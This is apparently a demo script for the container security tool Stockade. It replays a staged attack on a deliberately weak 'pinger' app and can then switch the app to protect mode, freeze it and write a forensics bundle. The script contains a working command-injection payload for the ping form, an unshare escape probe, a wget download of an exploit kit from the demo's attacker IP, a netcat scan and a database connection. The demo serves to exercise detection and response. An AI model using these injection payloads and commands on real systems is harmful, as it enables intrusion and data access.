"""Replay the demo's attack on the weak app (`make attack`), and optionally the response.

The way in is the pinger's command injection (GET /ping?host=127.0.0.1; COMMAND). Then, as in
Stockade's seed story:
  1. a syscall the weak app never makes (unshare, the first move of many container escapes);
  2. the download of the exploit kit with wget, from an address on the demo's ip-list feed,
     of a file whose sha256 is on the demo's sha256-list feed;
  3. netcat started, scanning the blog's database;
  4. the database reached from the weak app (not linked to it) by the app's own python3.
Each step prints what it runs and what came back; then the alerts it raised are listed.

--respond is the response, as an operator would give it from the console: switch the weak
app to protect, replay the attack (the tools are killed, exit 137, and the connection is
blocked), freeze the container and write its forensics bundle.

It reads the running demo's settings from $STOCKADE_DEMO_STATE/demo.env (scripts/demo.sh
writes it) and talks to the enforcer only through the `stockade` CLI, as a user would.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import re
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

DEMO = Path(__file__).resolve().parent
REPO = DEMO.parent
KIT = DEMO / "images" / "attacker" / "www" / "kit.sh"
DEFAULT_STATE = "/var/lib/stockade/demo"


class DemoError(Exception):
    """Something the attack cannot go on without; the message is one line for the user."""


@dataclass
class Demo:
    """The running demo, as scripts/demo.sh wrote it down."""

    env: dict[str, str]

    @classmethod
    def load(cls, state: str | None = None) -> "Demo":
        path = Path(state or os.environ.get("STOCKADE_DEMO_STATE") or DEFAULT_STATE) / "demo.env"
        try:
            lines = path.read_text().splitlines()
        except OSError:
            raise DemoError(f"no running demo ({path} is missing): run `make demo` first") from None
        env = dict(line.split("=", 1) for line in lines if "=" in line)
        return cls(env)

    def __getitem__(self, key: str) -> str:
        return self.env[f"STOCKADE_DEMO_{key}"]

    @property
    def socket(self) -> str:
        return self.env["STOCKADE_SOCKET"]

    def app(self, name: str) -> str:
        return self["PREFIX"] + name

    @property
    def pinger_url(self) -> str:
        return f"http://127.0.0.1:{self['PINGER_PORT']}/ping"


@dataclass
class Step:
    title: str
    why: str
    command: str
    tool: str  # the program whose exit status the command echoes
    shown: str = ""  # the command as printed, when the real one is long


@dataclass
class StepResult:
    title: str
    command: str
    output: str
    exit_status: int | None  # of the step's tool; 137 = killed by SIGKILL
    error: str = ""


@dataclass
class Report:
    mode: str
    steps: list[StepResult] = field(default_factory=list)
    alerts: list[dict[str, Any]] = field(default_factory=list)
    response: dict[str, Any] = field(default_factory=dict)


def attack_steps(demo: Demo) -> list[Step]:
    attacker, db = demo["ATTACKER_IP"], demo["DB_IP"]
    # Two tries a second apart: Stockade sees a connection once its first packet is sent, so in
    # protect mode the first try can get through before the block lands; the second cannot.
    connect = ("import socket, sys, time\n"
               "for n in (1, 2):\n"
               "    try:\n"
               "        s = socket.create_connection(('%s', 3306), 3)\n"
               "        print('try', n, '- the database answered:', s.recv(80)[5:].split(bytes(1))[0].decode())\n"
               "        ok = True\n"
               "    except OSError as e:\n"
               "        print('try', n, '- no connection:', e)\n"
               "        ok = False\n"
               "    time.sleep(1)\n"
               "sys.exit(0 if ok else 1)") % db
    return [
        Step("a syscall the weak app never makes",
             "unshare(CLONE_NEWUSER): the first move of many container escapes",
             "unshare --user --map-root-user id 2>&1; echo \"unshare exited $?\"", "unshare"),
        Step("the exploit kit, downloaded with wget",
             f"from {attacker}, an address on the demo-bad-ips feed; the file's sha256 is on demo-kit-sha256",
             f"wget -q -O /tmp/kit.sh http://{attacker}/kit.sh 2>&1; echo \"wget exited $?\"", "wget"),
        Step("netcat started",
             f"a port scan of the blog's database at {db}:3306",
             f"nc -z -v -n -w 2 {db} 3306 2>&1; echo \"nc exited $?\"", "nc"),
        Step("the blog's database, reached from the weak app",
             "nothing links pinger to the blog's db; the app's own python3 connects anyway",
             f"python3 -c \"{connect}\" 2>&1; echo \"python3 exited $?\"", "python3",
             f"python3 -c '...socket.create_connection((\"{db}\", 3306))...'  (twice, a second apart)"),
    ]


def inject(demo: Demo, command: str, timeout: float = 90.0) -> str:
    """Run COMMAND in the weak app's container through its ping form; returns the reply."""
    host = f"127.0.0.1 >/dev/null; {command}"
    url = demo.pinger_url + "?" + urllib.parse.urlencode({"host": host})
    with urllib.request.urlopen(url, timeout=timeout) as reply:
        return reply.read().decode(errors="replace")


def exit_status(output: str, tool: str) -> int | None:
    found = re.findall(rf"^{re.escape(tool)} exited (\d+)$", output, re.M)
    return int(found[-1]) if found else None


# -- the enforcer, through the CLI --------------------------------------------------------
def stockade(demo: Demo, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    exe = REPO / ".venv" / "bin" / "stockade"
    cmd = [str(exe) if exe.exists() else "stockade", "--socket", demo.socket, *args]
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=120)
    if check and proc.returncode != 0:
        raise DemoError(f"stockade {' '.join(args)} failed: {proc.stderr.strip() or proc.stdout.strip()}")
    return proc


def stockade_json(demo: Demo, *args: str) -> Any:
    proc = stockade(demo, *args, "--json", check=False)
    if proc.returncode != 0:
        return None  # a part of Stockade that is not there (yet) or not answering
    try:
        return json.loads(proc.stdout)
    except ValueError:
        return [json.loads(line) for line in proc.stdout.splitlines() if line.strip()]


def stockade_rows(demo: Demo, *args: str) -> list[dict[str, Any]]:
    """A listing command's rows (a JSON array, or JSON lines as `alerts --json` prints)."""
    rows = stockade_json(demo, *args)
    if isinstance(rows, dict):
        rows = [rows]
    return [r for r in rows or [] if isinstance(r, dict)]


def demo_containers(demo: Demo) -> list[dict[str, Any]]:
    rows = stockade_rows(demo, "containers")
    return [c for c in rows if (c.get("labels") or {}).get("stockade.demo") == demo["INSTANCE"]]


def pinger_container(demo: Demo) -> dict[str, Any]:
    for c in demo_containers(demo):
        if c.get("app") == demo.app("pinger"):
            return c
    raise DemoError(f"the enforcer does not see the weak app {demo.app('pinger')}: is the demo running? (make demo)")


def wait_until_learned(demo: Demo, out: "Printer", limit: float = 900.0) -> None:
    """Attack only once profiles are active: what happens while learning is learned as normal."""
    deadline = time.monotonic() + limit
    told = 0.0
    while True:
        learning = [c for c in demo_containers(demo) if c.get("profile_state") == "learning"]
        if not learning:
            return
        left = max(float(c.get("learning_left") or 0) for c in learning)
        if time.monotonic() > deadline:
            raise DemoError("the demo's profiles are still learning; try again later or use --no-wait")
        if time.monotonic() - told > 10:
            names = ", ".join(sorted(str(c.get("name")) for c in learning))
            why = f"{left:.0f} s left" if left > 0 else "waiting for them to be stable"
            out.line(f"waiting for the profiles to finish learning ({why}: {names}) -"
                     " whatever happens while learning is learned as normal")
            told = time.monotonic()
        time.sleep(1)


def alert_snapshot(demo: Demo) -> dict[int, tuple[Any, ...]]:
    rows = stockade_rows(demo, "alerts")
    return {a["id"]: (a.get("count"), a.get("action"), a.get("last_seen")) for a in rows if "id" in a}


def new_alerts(demo: Demo, before: dict[int, tuple[Any, ...]], settle: float) -> list[dict[str, Any]]:
    """Incidents that are new or grew since `before`, once they stop changing (up to `settle` s)."""
    deadline = time.monotonic() + settle
    last: list[dict[str, Any]] = []
    quiet = 0
    while time.monotonic() < deadline:
        rows = stockade_rows(demo, "alerts")
        changed = [a for a in rows if before.get(a.get("id")) != (a.get("count"), a.get("action"), a.get("last_seen"))]
        quiet = quiet + 1 if len(changed) == len(last) and changed else 0
        last = changed
        if quiet >= 3:
            break
        time.sleep(1)
    return sorted(last, key=lambda a: a.get("id", 0))


# -- output -------------------------------------------------------------------------------
class Printer:
    def __init__(self, quiet: bool) -> None:
        self.quiet = quiet

    def line(self, text: str = "") -> None:
        if not self.quiet:
            print(text, flush=True)


def run_attack(demo: Demo, out: Printer) -> Report:
    pinger = pinger_container(demo)
    if pinger.get("frozen"):
        raise DemoError(f"{pinger['name']} is frozen: `stockade unfreeze {pinger['name']}` to attack it again")
    mode = str(pinger.get("mode") or "?")
    report = Report(mode=mode)
    before = alert_snapshot(demo)
    out.line(f"Attacking the weak app {demo.app('pinger')} (container {pinger['name']}, mode {mode}) "
             f"through the command injection in its ping form:")
    out.line(f"  GET {demo.pinger_url}?host=127.0.0.1 >/dev/null; COMMAND")
    steps = attack_steps(demo)
    for n, step in enumerate(steps, 1):
        out.line()
        out.line(f"[{n}/{len(steps)}] {step.title}: {step.why}")
        out.line(f"      $ {step.shown or step.command.split(' 2>&1;')[0]}")
        try:
            output = inject(demo, step.command)
            result = StepResult(step.title, step.command, output, exit_status(output, step.tool))
        except (OSError, urllib.error.URLError) as e:
            result = StepResult(step.title, step.command, "", None, error=str(e))
        report.steps.append(result)
        for text in (result.output.rstrip("\n").splitlines() or [f"(no reply: {result.error})"]):
            out.line(f"      {text}")
        if result.exit_status == 137:
            out.line(f"      => {step.tool} was killed before it ran (SIGKILL, exit 137)")
        if n == 2 and result.exit_status == 0:
            out.line(f"      => the kit's sha256 {hashlib.sha256(KIT.read_bytes()).hexdigest()} is on the demo-kit-sha256 feed")
        if n == 4 and result.exit_status not in (0, None):
            out.line("      => the connection was blocked")
    report.alerts = new_alerts(demo, before, settle=20)
    out.line()
    if report.alerts:
        out.line(f"Stockade raised or updated {len(report.alerts)} incident(s) (the console's alerts view shows them live):")
        for a in report.alerts:
            out.line(f"  #{a.get('id'):<5} {a.get('severity', ''):<8} {a.get('kind', ''):<8} "
                     f"{a.get('container', ''):<18} {a.get('action', ''):<8} x{a.get('count', 1):<3} {a.get('summary', '')}")
    else:
        out.line("No alerts came back from the enforcer (is it running with its sensors? stockade status)")
    return report


def run_response(demo: Demo, out: Printer) -> Report:
    pinger_app = demo.app("pinger")
    out.line("The response, as an operator gives it from the console (keys m, f and x):")
    out.line(f"$ stockade mode {pinger_app} protect")
    stockade(demo, "mode", pinger_app, "protect")
    out.line()
    report = run_attack(demo, out)
    name = pinger_container(demo)["name"]
    out.line()
    out.line(f"$ stockade freeze {name}")
    freeze = stockade(demo, "freeze", name)
    out.line("  " + freeze.stdout.strip())
    bundle = Path(demo["STATE"]) / "forensics" / f"{name}-{time.strftime('%Y%m%d-%H%M%S')}.tar.gz"
    out.line(f"$ stockade forensics {name} --out {bundle}")
    forensics = stockade_json(demo, "forensics", name, "--out", str(bundle))
    if forensics is None:
        stockade(demo, "forensics", name, "--out", str(bundle))  # raises with the CLI's error line
    members = forensics.get("members")
    count = len(members) if isinstance(members, list) else members
    out.line(f"  wrote {forensics.get('path', bundle)} ({forensics.get('size', '?')} bytes, "
             f"{count if count is not None else '?'} members, sha256 {str(forensics.get('sha256', ''))[:16]}...)")
    report.response = {"frozen": name, "forensics": forensics}
    return report


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="make attack", description="Replay the demo's attack on the weak app.")
    p.add_argument("--respond", action="store_true",
                   help="the response: protect mode, replay (killed, blocked), freeze, forensics bundle")
    p.add_argument("--no-wait", action="store_true", help="attack even while the profiles are still learning")
    p.add_argument("--state", help="the demo's state folder (default $STOCKADE_DEMO_STATE or /var/lib/stockade/demo)")
    p.add_argument("--json", action="store_true", help="print one JSON report instead of the story")
    args = p.parse_args(argv)
    out = Printer(quiet=args.json)
    try:
        demo = Demo.load(args.state)
        if not args.no_wait:
            wait_until_learned(demo, out)
        report = run_response(demo, out) if args.respond else run_attack(demo, out)
    except DemoError as e:
        print(f"attack: {e}", file=sys.stderr)
        return 1
    except KeyboardInterrupt:
        return 130
    if args.json:
        print(json.dumps(asdict(report)))
    elif not args.respond and report.mode == "protect":
        out.line()
        out.line(f"Next: freeze {demo.app('pinger')}'s container (console: f) and write its forensics bundle (x), "
                 "or run `make respond` to do it all from here.")
    elif not args.respond:
        out.line()
        out.line(f"Next: switch {demo.app('pinger')} to protect (console: select it, press m) and run `make attack` "
                 "again, or run `make respond` to do it all from here.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
